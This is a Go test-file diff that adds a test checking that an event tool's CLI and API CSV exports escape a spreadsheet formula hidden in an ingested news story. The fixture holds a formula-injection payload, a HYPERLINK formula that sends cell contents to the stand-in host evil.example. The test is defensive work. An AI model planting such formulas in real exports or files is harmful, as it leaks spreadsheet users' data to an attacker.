@@ -3,11 +3,14 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"io"
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
+	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -116,4 +119,35 @@ func TestExports(t *testing.T) {
 			t.Errorf("got %d rows, want the %d stored events", len(rows), events)
 		}
 	})
+}
+
+// TestCSVFormulaFromStory stores a story that opens with a spreadsheet
+// formula and checks that neither the command line nor the API hands it to
+// a spreadsheet as one.
+func TestCSVFormulaFromStory(t *testing.T) {
+	dir := t.TempDir()
+	in := filepath.Join(dir, "evil.jsonl")
+	story := `{"id":"evil","published":"2019-09-23","text":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Egyptian police arrested 12 protesters in Cairo on Monday."}` + "\n"
+	if err := os.WriteFile(in, []byte(story), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	db := filepath.Join(dir, "events.db")
+	if _, _, err := runArgs(t, "", "ingest", "--db", db, in); err != nil {
+		t.Fatal(err)
+	}
+	cli, _, err := runArgs(t, "", "query", "--db", db, "--format", "csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	api := apiGet(t, db, "/v1/events?format=csv")
+	for name, body := range map[string][]byte{"query": []byte(cli), "/v1/events": api} {
+		recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("%s: got %d records, %v; want a header and one event", name, len(recs), err)
+		}
+		col := slices.Index(recs[0], "sentence_text")
+		if got := recs[1][col]; !strings.HasPrefix(got, `'=HYPERLINK(`) {
+			t.Errorf("%s: sentence_text got %q, want it escaped with a leading quote", name, got)
+		}
+	}
 }
